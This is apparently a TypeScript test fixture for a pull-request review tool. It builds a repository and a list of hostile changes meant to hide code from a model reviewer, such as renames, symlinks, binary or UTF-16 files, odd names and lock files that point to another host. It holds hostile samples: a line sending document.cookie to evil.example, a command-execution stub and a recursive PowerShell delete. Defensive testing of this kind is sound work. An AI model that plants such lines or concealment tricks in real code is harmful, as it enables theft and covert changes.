import { chmodSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';
import type { TestRepo } from './git-repo.ts';

/** A pull request that wants to be released unseen, and what has to become of it, also where the model says yes to everything. */
export interface HostileChange {
  readonly name: string;
  /** Commits on a branch of its own. */
  readonly make: (repo: TestRepo) => void;
  /** Null: nothing is wrong with it, and all of it was read. Else codes of reasons that a person is told. */
  readonly reasons: readonly string[] | null;
  /** What the manifest says of a path: its status and reason. */
  readonly manifest?: Readonly<Record<string, readonly [string, string | null]>>;
}

const EDIT = { 'src/app.js': 'export const limit = 20;\nexport const page = 1;\n' };
const FULL = ['full', null] as const;
const POINTER = `version https://git-lfs.github.com/spec/v1\noid sha256:${'a'.repeat(64)}\nsize 12345\n`;
const HOST = 'https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz';
const lock = (resolved: string) =>
  `${JSON.stringify({ name: 'shop', lockfileVersion: 3, packages: { 'node_modules/left-pad': { version: '1.3.0', resolved } } }, null, 2)}\n`;

/** What the target branch holds; `dist/` and the lock file are left out of what a model reads, by its rules. */
export const HOSTILE_BASE = {
  '.gitattributes': 'dist/** linguist-generated\n',
  'src/app.js': 'export const limit = 10;\nexport const page = 1;\n',
  'src/guard.js': 'export function mayPay(user) {\n  if (!user.verified) return false;\n  return user.active;\n}\n',
  'dist/bundle.js': 'fetch("//evil.example/" + document.cookie);\n'.repeat(8),
  'docs/setup.md': 'const { exec } = require("node:child_process");\nexec(process.argv[2]);\n'.repeat(4),
  'test/app.test.js': 'import "../src/app.js";\n',
  'package.json': '{ "name": "shop", "dependencies": { "left-pad": "1.3.0" } }\n',
  'package-lock.json': lock(HOST),
  'assets/model.bin': POINTER,
  'scripts/start.sh': '#!/bin/sh\nexec node src/app.js\n',
};

const files = (changed: Readonly<Record<string, string | Uint8Array | null>>) => (repo: TestRepo) =>
  void repo.commit({ files: changed });

/** Moves a file as it is, beside an edit that is harmless. */
const moved = (from: string, to: string) => (repo: TestRepo) => {
  mkdirSync(join(repo.work, to, '..'), { recursive: true });
  repo.git('mv', from, to);
  repo.commit({ files: EDIT });
};

export const HOSTILE_CHANGES: readonly HostileChange[] = [
  { name: 'a plain edit', make: files(EDIT), reasons: null, manifest: { 'src/app.js': FULL } },
  {
    name: 'lines that end in CR LF behind a byte order mark',
    make: files({ 'src/crlf.js': '\ufeffexport const a = 1;\r\nexport const b = 2;\r\n' }),
    reasons: null,
    manifest: { 'src/crlf.js': FULL },
  },
  {
    name: 'a check that is only taken away',
    make: files({ 'src/guard.js': 'export function mayPay(user) {\n  return user.active;\n}\n' }),
    reasons: null,
    manifest: { 'src/guard.js': FULL },
  },
  {
    name: 'two commits of which the second takes back what the first shows',
    make(repo) {
      repo.commit({ files: { ...EDIT, 'src/shown.js': 'export const shown = true;\n' } });
      repo.commit({ files: { 'src/shown.js': null } });
    },
    reasons: null,
    manifest: { 'src/app.js': FULL },
  },
  {
    name: 'a chain of renames of code, with an edit in it',
    make(repo) {
      repo.git('mv', 'src/guard.js', 'src/b.js');
      repo.commit({});
      repo.git('mv', 'src/b.js', 'src/c.js');
      repo.commit({ files: EDIT });
    },
    reasons: null,
    manifest: { 'src/c.js': FULL, 'src/app.js': FULL },
  },
  {
    name: 'names with quotes, with a dash in front and with a space at the end',
    make: files({ 'src/"q".js': 'export const q = 1;\n', '-rf': 'text\n', 'src/end .js ': 'export const e = 1;\n' }),
    reasons: null,
    manifest: { 'src/"q".js': FULL, '-rf': FULL, 'src/end .js ': FULL },
  },
  {
    name: 'a diff that is too large',
    make: files({ 'src/large.js': 'export const x = "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx";\n'.repeat(92_000) }),
    reasons: ['inconclusive'],
    manifest: { 'src/large.js': ['skipped', 'not_in_diff'] },
  },
  {
    name: 'a submodule',
    make(repo) {
      repo.git('update-index', '--add', '--cacheinfo', `160000,${repo.git('rev-parse', 'HEAD')},vendored`);
      repo.git('commit', '--quiet', '-m', 'vendored');
    },
    reasons: ['inconclusive', 'unreadable'],
    manifest: { vendored: ['skipped', 'submodule'] },
  },
  {
    name: 'a symbolic link',
    make: (repo) => void repo.commit({ files: EDIT, links: { 'src/key': 'app.js' } }),
    reasons: ['inconclusive', 'unreadable'],
    manifest: { 'src/key': ['skipped', 'symlink'] },
  },
  {
    name: 'a file that becomes a symbolic link',
    make: (repo) => void repo.commit({ files: { ...EDIT, 'src/guard.js': null }, links: { 'src/guard.js': 'app.js' } }),
    reasons: ['inconclusive', 'unreadable'],
    manifest: { 'src/guard.js': ['partial', 'symlink'] },
  },
  {
    name: 'a generated file that is moved among the code as it is',
    make: moved('dist/bundle.js', 'src/vendor.js'),
    reasons: ['inconclusive', 'unreadable'],
    manifest: { 'src/vendor.js': ['skipped', 'moved_unread'], 'src/app.js': FULL },
  },
  {
    name: 'a document that is moved among the code as it is',
    make: moved('docs/setup.md', 'src/setup.js'),
    reasons: ['inconclusive', 'unreadable'],
    manifest: { 'src/setup.js': ['skipped', 'moved_unread'] },
  },
  {
    name: 'a document that becomes code with a line of it changed',
    make(repo) {
      repo.git('mv', 'docs/setup.md', 'src/setup.js');
      repo.commit({ files: { 'src/setup.js': `${HOSTILE_BASE['docs/setup.md']}exec("true");\n` } });
    },
    reasons: ['inconclusive', 'unreadable'],
    manifest: { 'src/setup.js': ['partial', 'moved_unread'] },
  },
  {
    name: 'a lock file that becomes a setting',
    make: moved('package-lock.json', 'src/settings.json'),
    reasons: ['inconclusive', 'unreadable'],
    manifest: { 'src/settings.json': ['skipped', 'moved_unread'] },
  },
  {
    name: 'a file that becomes executable, beside an edit',
    make(repo) {
      chmodSync(join(repo.work, 'scripts/start.sh'), 0o755);
      repo.commit({ files: EDIT });
    },
    reasons: ['inconclusive', 'unreadable'],
    manifest: { 'scripts/start.sh': ['skipped', 'mode_changed'], 'src/app.js': FULL },
  },
  {
    name: 'a change of modes alone',
    make(repo) {
      chmodSync(join(repo.work, 'scripts/start.sh'), 0o755);
      repo.commit({});
    },
    reasons: ['inconclusive', 'unreadable'],
    manifest: { 'scripts/start.sh': ['skipped', 'mode_changed'] },
  },
  {
    name: 'a blob that is no text',
    make: files({ ...EDIT, 'src/addon.node': new Uint8Array([127, 69, 76, 70, 0, 1, 2, 3]) }),
    reasons: ['inconclusive', 'unreadable'],
    manifest: { 'src/addon.node': ['skipped', 'binary'] },
  },
  {
    name: 'code in UTF-16',
    make: files({ ...EDIT, 'src/wide.ps1': Buffer.from('\ufeffRemove-Item -Recurse C:\\\n', 'utf16le') }),
    reasons: ['inconclusive', 'unreadable'],
    manifest: { 'src/wide.ps1': ['skipped', 'binary'] },
  },
  {
    name: 'a NUL so far behind that git takes the file for text',
    make: files({ 'src/nul.js': `${'export const a = 1;\n'.repeat(500)}export const b = "\0";\n` }),
    reasons: ['inconclusive', 'unreadable'],
    manifest: { 'src/nul.js': ['partial', 'control_characters'] },
  },
  {
    name: 'a pointer to a large file elsewhere',
    make: files({ ...EDIT, 'assets/model.bin': POINTER.replaceAll('aaaa', 'bbbb') }),
    reasons: ['inconclusive', 'unreadable'],
    manifest: { 'assets/model.bin': ['skipped', 'lfs_pointer'], 'src/app.js': FULL },
  },
  {
    name: 'a new pointer to a large file elsewhere',
    make: files({ ...EDIT, 'assets/other.bin': POINTER }),
    reasons: ['inconclusive', 'unreadable'],
    manifest: { 'assets/other.bin': ['skipped', 'lfs_pointer'] },
  },
  {
    name: 'attributes that hide code from diffs, archives and readers',
    make: files({
      'src/.gitattributes': '* -diff binary export-ignore filter=lfs working-tree-encoding=latin1\n',
      'src/evil.js': 'export const evil = true;\n',
    }),
    reasons: null,
    manifest: { 'src/.gitattributes': FULL, 'src/evil.js': FULL },
  },
  {
    name: 'attributes that call code generated',
    make: files({ 'src/.gitattributes': '* linguist-generated\n', 'src/evil.js': 'export const evil = true;\n' }),
    reasons: ['ci_or_infra_changes'],
    manifest: { 'src/evil.js': FULL },
  },
  {
    name: 'a generated file alone',
    make: files({ 'dist/bundle.js': 'steal();\n' }),
    reasons: ['inconclusive'],
    manifest: { 'dist/bundle.js': ['skipped', 'generated'] },
  },
  {
    name: 'a lock file that fetches from another host',
    make: files({ ...EDIT, 'package-lock.json': lock(HOST.replace('registry.npmjs.org', 'npm.evil.example')) }),
    reasons: ['inconclusive', 'unreadable'],
    manifest: { 'package-lock.json': ['skipped', 'lock_source'] },
  },
  {
    name: 'a name with a line of its own',
    make: files({ 'src/a\n+++ b.js': 'export const a = 1;\n' }),
    reasons: ['inconclusive', 'unreadable'],
    manifest: { 'src/a\n+++ b.js': ['skipped', 'odd_name'] },
  },
  {
    name: 'a name that reads backwards',
    make: files({ 'src/txt.\u202esj.js': 'export const a = 1;\n' }),
    reasons: ['inconclusive', 'unreadable'],
    // The record holds no such character either.
    manifest: { 'src/txt.\ufffdsj.js': ['skipped', 'odd_name'] },
  },
  {
    name: 'a line that is too long for any question',
    make: files({ ...EDIT, 'src/min.js': `export const a = "${'x'.repeat(120_000)}";\n` }),
    reasons: ['inconclusive', 'unreadable'],
    manifest: { 'src/min.js': ['skipped', 'line_too_long'] },
  },
  { name: 'other owners', make: files({ ...EDIT, CODEOWNERS: '* @mallory\n' }), reasons: ['ci_or_infra_changes'] },
  {
    name: 'a policy of its own',
    make: files({ ...EDIT, '.slipway/policy.yaml': 'thresholds:\n  risk_score_max: 10\n' }),
    reasons: ['ci_or_infra_changes'],
  },
  {
    name: 'the settings of the fleet',
    make: files({ ...EDIT, 'slipway.yaml': 'thresholds:\n  risk_score_max: 10\n' }),
    reasons: ['ci_or_infra_changes'],
  },
];
